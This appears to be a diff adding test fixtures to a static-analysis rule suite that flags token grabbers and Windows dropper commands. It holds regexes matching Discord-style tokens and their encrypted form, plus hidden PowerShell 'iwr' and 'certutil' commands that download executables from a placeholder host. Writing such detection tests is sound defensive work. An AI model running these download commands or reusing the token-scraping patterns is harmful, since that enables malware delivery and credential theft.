@@ -34,3 +34,26 @@ def bot(chat_id, text):
     # ok: any-url-shortener
     requests.post("https://api-ssl.bitly.com/v4/shorten", json={"long_url": text})
     return url
+
+
+def grabber(blob):
+    import re
+
+    # ruleid: any-token-grabber-marker
+    tokens = re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", blob)
+    # ruleid: any-token-grabber-marker
+    encrypted = re.findall(r"dQw4w9WgXcQ:[^\"]*", blob)
+    # ok: any-token-grabber-marker
+    uuids = re.findall(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}", blob)
+    return tokens, encrypted, uuids
+
+
+def dropper():
+    import subprocess
+
+    # ruleid: any-windows-dropper-command
+    subprocess.Popen("powershell -w hidden -c iwr http://x/a.exe -OutFile a.exe", shell=True)
+    # ruleid: any-windows-dropper-command
+    subprocess.run("certutil -urlcache -split -f http://x/p.exe p.exe", shell=True)
+    # ok: any-windows-dropper-command
+    subprocess.run(["pwsh", "-NoProfile", "-File", "build.ps1"])
